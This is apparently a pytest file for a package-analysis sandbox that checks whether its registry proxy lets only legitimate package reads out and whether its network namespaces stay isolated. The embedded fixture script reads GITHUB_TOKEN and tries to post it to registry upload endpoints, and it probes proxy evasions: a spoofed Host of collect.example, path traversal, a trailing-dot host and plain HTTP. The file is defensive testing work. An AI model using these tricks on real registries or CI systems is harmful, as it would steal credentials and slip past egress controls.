"""Containment of the registry way out: of everything a package tries against registry names,
only package-manager reads are forwarded, and the proxy's own log proves it."""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import time

import pytest

from builders import setup_py_package
from clirun import run_cli_json
from pkgtrace.sandbox.netsim.network import SimulatedNetwork

pytestmark = [pytest.mark.sandbox, pytest.mark.network]

TRICKS = r'''
import http.client, json, os, socket, ssl
tok = os.environ.get("GITHUB_TOKEN", "")
res = []
def https(sni, method, target, host=None, body=None, port=443):
    try:
        c = http.client.HTTPSConnection(sni, port, timeout=20) if port == 443 else http.client.HTTPConnection(sni, port, timeout=20)
        headers = {"Host": host or sni, "Authorization": "token " + tok}
        c.request(method, target, body=body, headers=headers)
        r = c.getresponse(); r.read()
        res.append([sni, method, target, r.status])
    except Exception as e:
        res.append([sni, method, target, type(e).__name__])
https("pypi.org", "GET", "/simple/six/")                              # the one legitimate read
https("upload.pypi.org", "POST", "/legacy/", body=b"content=" + tok.encode())
https("pypi.org", "POST", "/legacy/", body=b"content=" + tok.encode())
https("files.pythonhosted.org", "PUT", "/packages/aa/bb/evil-1.0.tar.gz", body=b"x")
https("pypi.org", "DELETE", "/simple/six/")
https("pypi.org", "GET", "/simple/six/", host="collect.example")       # Host differs from SNI
https("pypi.org", "GET", "/manage/account/")                            # not a package path
https("pypi.org", "GET", "/simple/six/", body=b"smuggled")              # a read with a body
https("pypi.org", "GET", "/simple/%2e%2e/%2e%2e/admin/")
https("pypi.org.", "GET", "/simple/six/")                               # trailing dot
https("pypi.org", "GET", "/simple/six/", port=80)                       # plain HTTP
https("registry.npmjs.org", "GET", "/is-number")                       # another ecosystem's registry
print("PKGTRACE-RESULT " + json.dumps(res))
'''


def test_only_registry_reads_leave(tmp_path, results):
    artifact = setup_py_package(tmp_path / "dist", "pkgtrace-fixture-registry-tricks", TRICKS)
    docs = run_cli_json("analyze", "pypi", "--local", str(artifact), "--mode", "dynamic",
                        "--results", str(results), "--timeout", "180")
    log = docs["report"]["dynamic"]["registry_proxy"]
    forwarded = [(p["host"], p["method"], p["target"]) for p in log if p["decision"] == "forwarded"]
    # pip needs nothing from PyPI for this sdist: the one read is the package's plain GET
    assert set(forwarded) == {("pypi.org", "GET", "/simple/six/")}, log
    net = [e for e in docs["report"]["dynamic"]["phases"]["install"]["network"] if e.get("http")]
    allowed = [(e["tls"]["sni"], e["http"]["method"], e["http"]["target"]) for e in net if e["allowed"]]
    assert set(allowed) == {("pypi.org", "GET", "/simple/six/")}, allowed
    # every trick reached the simulator and is recorded with what happened to it
    seen = {(e.get("tls", {}).get("sni") or e["http"].get("host"), e["http"]["method"], e["http"]["target"])
            for e in net}
    for want in [("upload.pypi.org", "POST", "/legacy/"), ("pypi.org", "POST", "/legacy/"),
                 ("files.pythonhosted.org", "PUT", "/packages/aa/bb/evil-1.0.tar.gz"),
                 ("pypi.org", "DELETE", "/simple/six/"), ("pypi.org", "GET", "/manage/account/"),
                 ("pypi.org.", "GET", "/simple/six/"), ("registry.npmjs.org", "GET", "/is-number")]:
        assert want in seen, (want, seen)
    refused = {(e["http"]["method"], e["http"]["target"]): e["proxy"]["reason"]
               for e in net if (e.get("proxy") or {}).get("decision") == "refused"}
    assert "not a read" in refused[("DELETE", "/simple/six/")]
    assert "not a path" in refused[("GET", "/manage/account/")]
    # a pypi run opens only PyPI: npm's registry is refused, as a read of another ecosystem's
    assert "another ecosystem's registry" in refused[("GET", "/is-number")]
    plain = [e for e in net if not e.get("tls") and e["http"]["target"] == "/simple/six/"]
    assert plain and not plain[0]["allowed"] and "plain HTTP" in plain[0]["proxy"]["reason"]
    rules = {f["rule"] for f in docs["report"]["verdict"]["findings"]}
    assert {"DYN-REGISTRY-WRITE", "DYN-REGISTRY-TOKEN-USE", "DYN-REGISTRY-PATH-REFUSED"} <= rules



def _links(ns: str | None) -> list[dict]:
    cmd = ["ip", *(["-n", ns] if ns else []), "-j", "link", "show"]
    return json.loads(subprocess.run(cmd, check=True, capture_output=True, text=True).stdout)


def test_the_only_way_out_is_the_proxy_socket(tmp_path):
    """Why the proxy's log is the whole story: each of the run's two namespaces holds a loopback
    and one end of the veth between them, nothing joined to the host's; from either, a connection
    to the host's own address never arrives. The proxy's socket (a path) is the one door."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(("192.0.2.254", 9))  # sends nothing: the host's outward address
        host_ip = s.getsockname()[0]
    with socket.socket() as listener:
        listener.bind(("0.0.0.0", 0))
        listener.listen(4)
        listener.setblocking(False)
        port = listener.getsockname()[1]
        with SimulatedNetwork("e9e55e000000", tmp_path) as net:
            ends = []
            for ns in (net.pair.sandbox, net.pair.simulator):
                links = _links(ns)
                assert [ln["ifname"] for ln in links][0] == "lo" and len(links) == 2, links
                assert "link_netnsid" in links[1], links  # a veth whose peer is in another namespace
                ends.append(links[1]["ifname"])
                probe = (f"import socket\ntry:\n socket.create_connection(({host_ip!r}, {port}), timeout=3)"
                         f".sendall(b'OUT')\nexcept OSError: pass\n")
                subprocess.run(["nsenter", f"--net=/run/netns/{ns}", sys.executable, "-c", probe],
                               check=True, timeout=60)
            assert ends[1] not in {ln["ifname"] for ln in _links(None)}  # the peer is not the host's
            for _ in range(600):  # the simulator took the sandbox's attempt: wait for its record
                seen = [e for e in net.events() if e.get("dst") == host_ip and e.get("port") == port]
                if seen:
                    break
                time.sleep(0.05)
            assert seen, net.events()
        try:
            reached = [listener.accept()[1]]
        except BlockingIOError:
            reached = []
    assert reached == [], f"a run's namespace reached the host: {reached}"
